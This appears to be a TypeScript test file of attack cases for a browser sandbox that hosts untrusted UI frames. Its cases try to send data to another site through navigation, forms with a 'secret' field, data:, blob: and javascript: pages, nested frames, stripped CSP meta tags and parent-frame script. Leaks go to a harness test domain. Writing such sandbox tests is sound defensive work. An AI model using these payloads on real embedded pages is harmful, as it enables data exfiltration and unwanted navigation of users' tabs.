// Navigations of the tab, the frame and the history: a request that arrives has sent data to another site.
import type { Attack } from '../attack.ts';
import { leak, leakUrl, ofClass } from './define.ts';

const attack = ofClass('navigation', 'network');

/** Waits until the harness has received the start; then for the time that a navigation takes. */
const go = (code: string): string => `await A.wait(150); ${code}; await A.wait(1500)`;

export const ATTACKS: readonly Attack[] = [
  attack('n01', 'navigates the tab', { script: go(`top.location = ${leak('top')}`), alone: true }),
  attack('n02', 'navigates the tab after a click', {
    script: go(`await A.click(); top.location = ${leak('top')}`),
    gesture: true,
    alone: true,
  }),
  attack('n03', 'a link with target=_top, clicked', {
    html: `<a href="${leakUrl('link')}" target="_top" style="position:fixed;inset:0">go</a>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('n04', 'a form with target=_top, sent by a click', {
    html: `<form action="${leakUrl('form')}" target="_top"><button style="position:fixed;inset:0">go</button></form>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('n05', 'goes back in the history of the tab', {
    observe: 'host',
    script: go('history.back(); history.go(-1); history.go(-2)'),
    breach: ({ before, after }) => before.url !== after.url,
    alone: true,
  }),
  attack('n06', 'fills the history of the tab', {
    observe: 'host',
    script: `
      for (let n = 0; n < 30; n++) {
        history.pushState(n, '');
        location.hash = n;
      }
      await A.wait(500);`,
    breach: ({ before, after }) => after.historyLength > before.historyLength + 5,
    alone: true,
  }),
  attack('n07', 'location.href to another site', { script: go(`location.href = ${leak('href')}`) }),
  attack('n08', 'a meta refresh to another site', {
    html: `<meta http-equiv="refresh" content="0;url=${leakUrl('refresh')}">`,
    script: 'await A.wait(1500)',
  }),
  attack('n09', 'location.replace and location.assign', {
    script: go(`location.assign(${leak('assign')}); await A.wait(300); location.replace(${leak('replace')})`),
  }),
  attack('n10', 'sends a form by GET in its own frame', {
    html: `<form action="${leakUrl('get')}"><input name="secret" value="1"></form>`,
    script: go('document.forms[0].submit()'),
  }),
  attack('n11', 'sends a form by POST in its own frame', {
    html: `<form action="${leakUrl('post')}" method="post"><input name="secret" value="1"></form>`,
    script: go('document.forms[0].submit()'),
  }),
  attack('n12', 'clicks a link in its own frame', {
    html: `<a href="${leakUrl('click')}">go</a>`,
    script: go(`document.querySelector('a').click()`),
  }),
  attack('n13', 'goes to a data: page that asks another site', {
    script: go(
      `location.href = 'data:text/html,' + encodeURIComponent('<script>fetch("' + ${leak('data')} + '")</' + 'script><img src="' + ${leak('data-image')} + '">')`,
    ),
  }),
  attack('n14', 'goes to a blob: page that asks another site', {
    script: go(
      `location.href = URL.createObjectURL(new Blob(['<script>fetch("' + ${leak('blob')} + '")</' + 'script><img src="' + ${leak('blob-image')} + '">'], { type: 'text/html' }))`,
    ),
  }),
  attack('n15', 'frames the sandbox’s own page with a policy of its own choosing', {
    script: `
      const own = new URL('/', document.baseURI.startsWith('http') ? document.baseURI : A.hostOrigin);
      own.searchParams.set('host', A.hostOrigin);
      own.searchParams.set('csp', JSON.stringify({ connectDomains: ['http://' + A.name], resourceDomains: ['http://' + A.name] }));
      own.searchParams.set('frame', 'http://' + A.name);
      const frame = document.createElement('iframe');
      frame.src = own;
      frame.onload = () => frame.contentWindow.postMessage({ method: 'ui/notifications/sandbox-resource-ready', params: {
        html: '<img src="' + ${leak('own-page')} + '">',
      } }, '*');
      document.body.append(frame);
      await A.wait(1500);
      location.href = own;
      await A.wait(1000);`,
  }),
  attack('n16', 'goes to a javascript: page that asks another site', {
    script: go(`location.href = 'javascript:\\'<img src="' + ${leak('javascript')} + '">\\''`),
  }),
  attack('n17', 'a nested frame of another site', {
    script: go(`document.body.append(Object.assign(document.createElement('iframe'), { src: ${leak('frame')} }))`),
  }),
  attack('n18', 'a nested srcdoc frame that asks another site', {
    script: go(
      `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch("' + ${leak('srcdoc')} + '")</' + 'script><img src="' + ${leak('srcdoc-image')} + '">' }))`,
    ),
  }),
  attack('n19', 'nested data: and blob: frames that ask another site', {
    script: go(`
      const page = '<script>fetch("' + ${leak('nested')} + '")</' + 'script><img src="' + ${leak('nested-image')} + '">';
      for (const src of ['data:text/html,' + encodeURIComponent(page), URL.createObjectURL(new Blob([page], { type: 'text/html' }))])
        document.body.append(Object.assign(document.createElement('iframe'), { src }))`),
  }),
  attack('n20', 'object and embed of another site', {
    html: `<object data="${leakUrl('object')}"></object><embed src="${leakUrl('embed')}">`,
    script: 'await A.wait(1500)',
  }),
  attack('n21', 'takes policies in meta tags out of its document, then asks another site', {
    script: go(`
      document.querySelectorAll('meta').forEach(meta => meta.remove());
      document.head?.replaceChildren();
      fetch(${leak('meta')}); new Image().src = ${leak('meta-image')}`),
  }),
  attack('n22', 'writes its document anew, then asks another site', {
    script: go(
      `document.open(); document.write('<!doctype html><head></head><img src="' + ${leak('write')} + '">'); document.close()`,
    ),
  }),
  attack('n23', 'the navigation API to another site', { script: go(`navigation.navigate(${leak('navigate')})`) }),
  attack('n24', 'window.open into its own frame', { script: go(`window.open(${leak('self')}, '_self')`) }),
  attack('n25', 'navigates its parent frame', {
    script: go(
      `try { parent.location.href = ${leak('parent')} } catch {}; window.open(${leak('open-parent')}, '_parent')`,
    ),
    alone: true,
  }),
  attack('n26', 'navigates views of other servers', {
    script: go(
      `for (const w of A.windows()) if (w !== window && w !== parent) try { w.location.href = ${leak('sibling')} } catch {}`,
    ),
    alone: true,
  }),
  attack('n27', 'a link in an SVG, and an area, clicked by script', {
    html: `<svg><a href="${leakUrl('svg-link')}"><text y="9">go</text></a></svg><map><area href="${leakUrl('area')}"></map>`,
    script: go(`
      document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      await A.wait(300);
      document.querySelector('area').click()`),
  }),
  attack('n28', 'a frameset of another site', {
    script: go(`
      const set = document.createElement('frameset');
      set.append(Object.assign(document.createElement('frame'), { src: ${leak('frameset')} }));
      document.body.replaceWith(set)`),
  }),
  attack('n29', 'a base target that sends links to the tab, clicked', {
    html: `<base target="_top"><a href="${leakUrl('base-target')}" style="position:fixed;inset:0">go</a>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('n30', 'a nested frame with tokens of its own navigates the tab', {
    script: go(`
      const frame = document.createElement('iframe');
      frame.sandbox = 'allow-scripts allow-top-navigation allow-popups allow-same-origin';
      frame.srcdoc = '<script>top.location = "' + ${leak('nested-top')} + '"</' + 'script>';
      await A.click();
      document.body.append(frame)`),
    gesture: true,
    alone: true,
  }),
  attack('n31', 'window.open to another site, without a click', { script: go(`window.open(${leak('popup')})`) }),
  attack('n32', 'window.open to another site, after a click', {
    script: go(`await A.click(); window.open(${leak('popup')})`),
    gesture: true,
    alone: true,
  }),
  attack('n33', 'a link with target=_blank, clicked', {
    html: `<a href="${leakUrl('blank')}" target="_blank" style="position:fixed;inset:0">go</a>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('n34', 'a form that opens a window, after a click', {
    html: `<form action="${leakUrl('form-popup')}" method="post" target="_blank"><button style="position:fixed;inset:0">go</button></form>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('n35', 'declares every frame domain, then nests another site', {
    ui: { csp: { frameDomains: ['*', 'http:', 'http://*.leak.test', 'https://a.test http:'] } },
    script: go(`document.body.append(Object.assign(document.createElement('iframe'), { src: ${leak('declared')} }))`),
  }),
  attack('n37', 'a submit button with an address of its own, pressed by script', {
    html: `<form><input name="secret" value="1"><button formaction="${leakUrl('formaction')}" formmethod="post">go</button></form>`,
    script: go(`document.querySelector('button').click()`),
  }),
  attack('n38', 'a form whose address is changed while it is submitted', {
    html: '<form><input name="secret" value="1"></form>',
    script: go(`
      const form = document.forms[0];
      form.onsubmit = event => { form.action = ${leak('changed')}; event.stopImmediatePropagation(); };
      form.requestSubmit()`),
  }),
  attack('n39', 'a form with target=_parent', {
    html: `<form action="${leakUrl('parent')}" target="_parent"><input name="secret" value="1"></form>`,
    script: go('document.forms[0].submit()'),
    alone: true,
  }),
  attack('n40', 'a form with a relative address below a declared base', {
    html: `<base href="${leakUrl('base/')}"><form action="relative" method="post"><input name="secret" value="1"></form>`,
    ui: { csp: { baseUriDomains: ['http://{{name}}', 'https://{{name}}'] } },
    script: go('document.forms[0].submit()'),
  }),
  attack('n41', 'a form of a document on a dedicated origin, to another site', {
    ui: { domain: 'app' },
    html: `<form action="${leakUrl('dedicated')}" method="post"><input name="secret" value="1"></form>`,
    script: go('document.forms[0].submit()'),
  }),
  attack('n42', 'a form that runs a script in the frame around it', {
    observe: 'frame',
    html: `<form target="_parent"></form>`,
    script: `
      const form = document.forms[0];
      addEventListener('message', ({ data }) => data === 'ran ' + A.token && A.report(data));
      form.action = 'javascript:void(frames[0] && [...document.querySelectorAll("iframe")].forEach(f => f.contentWindow.postMessage("ran ' + A.token + '", "*")))';
      form.submit();
      await A.wait(700);`,
    alone: true,
  }),
  attack('n36', 'declares every frame domain, then goes to another site', {
    ui: { csp: { frameDomains: ['*', 'http:', 'http://*.leak.test', 'https://a.test http:'] } },
    script: go(`location.href = ${leak('declared')}`),
  }),
];
